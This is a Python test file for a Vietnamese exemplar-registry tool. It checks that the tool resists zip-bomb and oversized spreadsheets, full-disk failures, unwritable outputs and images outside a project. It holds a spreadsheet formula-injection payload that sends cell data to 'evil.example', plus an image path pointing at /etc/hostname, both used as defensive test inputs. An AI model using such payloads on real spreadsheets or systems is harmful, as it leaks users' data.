"""Hostile files and a hostile disk: a sparse sheet that claims a million cells, a name that is
a formula, a full disk while a draft is rewritten, unwritable outputs, a story that pulls
undeclared photos into a booklet."""

from __future__ import annotations

import errno
import os
import shutil
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from dienhinh import files
from dienhinh.intake.import_sheet import read_sheet
from dienhinh.printing import booklet as bk
from dienhinh.records.catalog import load_catalog
from dienhinh.records.settings import Settings

from .sample import copy_project, run_cli, run_main, write_xlsx

HEADERS = ["Tên điển hình", "Loại", "Lĩnh vực", "Xóm", "Ngày đăng ký"]
ROW = ["Tổ hợp tác mới", "Tập thể", "Nông thôn mới", "Đồng Tâm", "15/06/2022"]


def _claim_dimension(path: Path, dimension: str, far_cell: str | None = None) -> None:
    """Rewrite the sheet's XML to claim ``dimension`` (and add one far-away cell)."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode()
    start = xml.index("<dimension ref=")
    end = xml.index("/>", start) + 2
    xml = xml[:start] + f'<dimension ref="{dimension}"/>' + xml[end:]
    if far_cell:
        xml = xml.replace(
            "</sheetData>",
            f'<row r="20000"><c r="{far_cell}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
        )
    parts["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_sparse_sheet_claiming_a_million_cells_reads_only_its_cells(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "dang-ky.xlsx", [HEADERS, ROW])
    _claim_dimension(path, "A1:XFD20000", far_cell="XFD20000")
    assert path.stat().st_size < 100_000
    tracemalloc.start()
    sheet, problems = read_sheet(path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert problems == [] and sheet is not None
    assert [r.values["name"] for r in sheet.rows] == ["Tổ hợp tác mới"]
    # Before: 327 million empty cells (2.6 GB). Now the cells that are there, a few MB at most.
    assert peak < 30 * 2**20, peak


def test_zip_bomb_sheet_is_refused(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "bom.xlsx", [HEADERS, ROW])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/padding.bin", b"\0" * (210 * 2**20))
    sheet, problems = read_sheet(path)
    assert sheet is None and "Bảng tính quá lớn" in problems[0].message


def test_formula_in_a_name_is_text_in_the_excel_report(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "p")
    index = project / "exemplars" / "doi-che-ban-quyen" / "index.md"
    text = index.read_text(encoding="utf-8")
    name = next(line for line in text.splitlines() if line.startswith("name:"))
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Bấm")'
    index.write_text(text.replace(name, "name: '" + hostile.replace("'", "''") + "'"), encoding="utf-8")
    # A late registration, so the name is listed in a table of the report.
    index.write_text(index.read_text("utf-8").replace("registered: 2022-", "registered: 2023-", 1), "utf-8")
    out = tmp_path / "bao-cao.xlsx"
    result = run_main("report", "--xlsx", str(out), cwd=project)
    assert result.returncode == 0, result.stdout + result.stderr
    with zipfile.ZipFile(out) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml  # no formula anywhere in the workbook
    cells = [c for ws in load_workbook(out) for row in ws.iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_a_full_disk_never_truncates_a_draft(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "index.md"
    target.write_text("bản cũ\n", encoding="utf-8")
    os.chmod(target, 0o640)

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(files.os, "fsync", full)
    with pytest.raises(OSError):
        files.write_atomically(target, "bản mới " * 1000)
    assert target.read_text(encoding="utf-8") == "bản cũ\n"
    assert [p.name for p in tmp_path.iterdir()] == ["index.md"]  # no temporary file left
    monkeypatch.undo()
    files.write_atomically(target, "bản mới\n")
    assert target.read_text(encoding="utf-8") == "bản mới\n"
    assert target.stat().st_mode & 0o777 == 0o640


def test_reimport_on_a_full_disk_keeps_the_draft_and_says_so(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "p")
    sheet = write_xlsx(tmp_path / "dang-ky.xlsx", [HEADERS, ROW])
    assert run_main("import", str(sheet), cwd=project).returncode == 0
    draft = next(project.glob("exemplars/to-hop-tac-moi/index.md"))
    before = draft.read_bytes()
    write_xlsx(sheet, [[*HEADERS, "Tóm tắt"], [*ROW, "Tóm tắt mới."]])
    # The disk is full while the draft is rewritten (the CLI runs in its own process).
    hook = tmp_path / "sitecustomize.py"
    hook.write_text(
        "import errno, os\n"
        "def _full(fd):\n    raise OSError(errno.ENOSPC, 'No space left on device')\n"
        "os.fsync = _full\n",
        encoding="utf-8",
    )
    result = run_cli("import", str(sheet), cwd=project, env={"PYTHONPATH": str(tmp_path)})
    out = result.stdout + result.stderr
    assert result.returncode == 1, out
    assert "Traceback" not in out
    assert "dang-ky.xlsx: dòng 2" in out and "ổ đĩa đã đầy" in out and "vẫn giữ nguyên" in out
    assert draft.read_bytes() == before
    assert [p.name for p in draft.parent.iterdir()] == ["index.md"]


@pytest.mark.parametrize(
    "command",
    [("report", "--xlsx"), ("report", "--html"), ("schema", "-o"), ("nominations", "--xlsx"),
     ("editor-config", "-o")],
)  # fmt: skip
def test_unwritable_outputs_are_a_message(tmp_path: Path, command: tuple[str, str]) -> None:
    project = copy_project(tmp_path / "p")
    blocked = tmp_path / "tep-thuong"
    blocked.write_text("x", encoding="utf-8")  # a file where a folder should be
    result = run_main(*command, str(blocked / "ra.xlsx"), cwd=project)
    out = result.stdout + result.stderr
    assert result.returncode == 1, out
    assert "Traceback" not in out
    assert "Không ghi được tệp" in out and "lỗi hệ thống" not in out  # the reason in Vietnamese
    # One message path for every file a command writes: the file, the LỖI label, the reason.
    assert f"{blocked / 'ra.xlsx'}: LỖI: Không ghi được tệp" in out, out


def test_import_with_a_utf16_profile_beside_it(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "p")
    folder = project / "exemplars" / "ho-so-utf16"
    folder.mkdir()
    (folder / "index.md").write_text("---\nname: Hồ sơ UTF-16\n---\n", encoding="utf-16")
    result = run_main("import", str(write_xlsx(tmp_path / "dang-ky.xlsx", [HEADERS, ROW])), cwd=project)
    out = result.stdout + result.stderr
    assert result.returncode == 0, out
    assert "Traceback" not in out and "tạo mới exemplars/to-hop-tac-moi/index.md" in out


STORY_IMAGES = """
## Cách làm

Ảnh chưa khai báo: <img src="anh-goc-chua-khai-bao.jpg" alt="gốc">

Ảnh của hồ sơ nháp: ![nháp](../mo-hinh-homestay-atk-gan-voi-doi-che-xom-ban-moi/nha-san.jpg)

<picture><source srcset="../mo-hinh-homestay-atk-gan-voi-doi-che-xom-ban-moi/doi-che.jpg">
<img src="/etc/hostname"></picture>
"""


def test_a_story_cannot_print_undeclared_photos(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "p")
    folder = project / "exemplars" / "doi-che-ban-quyen"
    (folder / "anh-goc-chua-khai-bao.jpg").write_bytes((folder / "anh-doi-che.jpg").read_bytes())
    index = folder / "index.md"
    index.write_text(index.read_text("utf-8") + STORY_IMAGES, encoding="utf-8")
    result = run_main("check", cwd=project)
    undeclared = [line for line in result.stdout.splitlines() if "chưa được khai báo" in line]
    assert result.returncode == 1
    assert len(undeclared) == 4, result.stdout
    assert all(line.startswith("exemplars/doi-che-ban-quyen/index.md:") for line in undeclared)

    # Past the check (a hand-made call): the booklet's fetcher still reads none of them.
    settings = Settings.from_mkdocs_yml(project / "mkdocs.yml")
    catalog = load_catalog(settings)
    exemplar = next(e for e in catalog.exemplars if e.slug == "doi-che-ban-quyen")
    booklet = bk.Booklet("Thử", "Thử", (exemplar,), "thu")
    assert catalog.registry is not None
    rendered, problems = bk.render_booklet(
        booklet,
        catalog.registry,
        settings.theme,
        settings.site_url,
        exemplars_dir=settings.exemplars_dir,
    )
    assert rendered is None
    refused = " ".join(p.message for p in problems)
    for name in ("anh-goc-chua-khai-bao.jpg", "nha-san.jpg", "/etc/hostname"):
        assert name in refused, refused


FULL_DISK = """
import errno
import mkdocs.utils

_write, _count = mkdocs.utils.write_file, [0]


def write_file(content, output_path):
    _count[0] += 1
    if _count[0] > 20:  # the disk fills up in the middle of the build
        raise OSError(errno.ENOSPC, "No space left on device", output_path)
    return _write(content, output_path)


mkdocs.utils.write_file = write_file
"""


def test_a_full_disk_during_the_build_keeps_the_site(tmp_path: Path, sample_site: Path) -> None:
    from .test_hardening import digest

    project = copy_project(tmp_path / "p", media_cache=True)
    shutil.copytree(sample_site, project / "site")
    before = digest(project / "site")
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(FULL_DISK, encoding="utf-8")
    result = run_cli("build", cwd=project, env={"PYTHONPATH": str(hook)})
    out = result.stdout + result.stderr
    assert result.returncode == 1, out
    assert "Traceback" not in out and "Errno" not in out and "No space" not in out
    assert "ổ đĩa đã đầy" in out and "trang đã công bố trước đó vẫn giữ nguyên" in out
    assert digest(project / "site") == before
    assert not list(project.glob(".site.*"))  # staging removed


def test_16_bit_greyscale_png_keeps_its_greys(tmp_path: Path) -> None:
    from PIL import Image

    from dienhinh.records.photo_checks import inspect_photo
    from dienhinh.site.photos import process_photos

    path = tmp_path / "anh-xam.png"
    Image.new("I;16", (400, 300), 32768).save(path)  # mid-grey, 16 bits per pixel
    assert Image.open(path).mode == "I;16"
    source = inspect_photo(path, path.name, 2**24, 10**8)
    assert not isinstance(source, str), source
    processed = process_photos([source], tmp_path / "cache", workers=1)[0][source.digest]
    for variant in processed.variants:
        with Image.open(variant.jpeg) as jpeg:
            grey = jpeg.convert("L").getpixel((10, 10))
        assert isinstance(grey, int) and 120 <= grey <= 135, grey  # before: 255, published white
